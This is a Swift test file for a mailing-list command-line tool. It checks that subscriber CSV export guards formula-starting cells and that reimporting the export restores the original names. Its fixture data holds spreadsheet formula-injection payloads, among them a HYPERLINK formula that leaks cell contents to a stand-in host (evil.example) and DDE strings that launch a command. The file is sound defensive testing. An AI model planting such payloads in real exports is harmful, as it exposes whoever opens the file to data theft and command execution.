import BulkheadStore
import Foundation
import Testing

/// `subscribers export` never writes a cell a spreadsheet would run as a formula, and `subscribers
/// import` of that export gives back the original values.
@Suite struct SubscribersFormulaGuardTests {
    /// Names (and addresses) that start formulas, DDE commands, or the apostrophe of the guard itself.
    static let people: [(address: String, name: String)] = [
        ("a@example.com", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"),
        ("b@example.com", "+cmd|' /C calc'!A0"),
        ("c@example.com", "-2+3"),
        ("d@example.com", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("e@example.com", "\tTab first"),
        ("f@example.com", "\rCR first"),
        ("g@example.com", "'=already guarded by someone"),
        ("h@example.com", "'plain apostrophe"),
        ("i@example.com", "Ann = Lee, + - @"),
        ("-dash@example.com", "Dash"),
        ("=eq@example.com", "Equals"),
    ]

    @Test func exportGuardsFormulaCellsAndReimportRestoresThem() async throws {
        let workspace = try CLIWorkspace()
        #expect(try workspace.run("list", "create", "news").status == 0)
        #expect(try workspace.run("list", "create", "copy").status == 0)
        // Names starting with TAB or CR cannot come from a CSV import (cells are trimmed): store them directly.
        let store = try SQLiteStore(path: workspace.directory.appendingPathComponent("data/bulkhead.sqlite").path)
        let news = try #require(try await store.list(named: "news"))
        let rows = try Self.people.map {
            ImportRow(
                address: try NormalizedAddress($0.address), name: $0.name,
                attributes: ["note": .string("=1+1")], status: .confirmed)
        }
        _ = try await store.importSubscribers(
            rows, into: news.id, importID: "test", consent: ImportConsent(defaultStatus: .confirmed, source: "test"))

        let export = try workspace.run("subscribers", "export", "--list", "news")
        #expect(export.status == 0, "\(export.stderr)")
        #expect(
            export.stdout == """
                email,name,status,attributes\r
                a@example.com,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",confirmed,"{""note"":""=1+1""}"\r
                b@example.com,'+cmd|' /C calc'!A0,confirmed,"{""note"":""=1+1""}"\r
                c@example.com,'-2+3,confirmed,"{""note"":""=1+1""}"\r
                d@example.com,'@SUM(1+1)*cmd|' /C calc'!A0,confirmed,"{""note"":""=1+1""}"\r
                e@example.com,'\tTab first,confirmed,"{""note"":""=1+1""}"\r
                f@example.com,"'\rCR first",confirmed,"{""note"":""=1+1""}"\r
                g@example.com,''=already guarded by someone,confirmed,"{""note"":""=1+1""}"\r
                h@example.com,'plain apostrophe,confirmed,"{""note"":""=1+1""}"\r
                i@example.com,"Ann = Lee, + - @",confirmed,"{""note"":""=1+1""}"\r
                '-dash@example.com,Dash,confirmed,"{""note"":""=1+1""}"\r
                '=eq@example.com,Equals,confirmed,"{""note"":""=1+1""}"\r

                """)

        try workspace.write(export.stdout, to: "news.csv")
        let reimport = try workspace.run("subscribers", "import", "news.csv", "--list", "copy", "--json")
        #expect(reimport.status == 0, "\(reimport.stderr)")
        #expect(reimport.stdout.contains("\"invalid\" : 0"), "\(reimport.stdout)")
        let copy = try #require(try await store.list(named: "copy"))
        var restored: [String: String] = [:]
        for try await member in store.members(of: copy.id, statuses: nil) {
            restored[member.subscriber.address.value] = member.subscriber.name
        }
        #expect(restored == Dictionary(uniqueKeysWithValues: Self.people.map { ($0.address, $0.name) }))
        #expect(try workspace.run("subscribers", "export", "--list", "copy").stdout == export.stdout, "the copy exports the same text")
    }
}
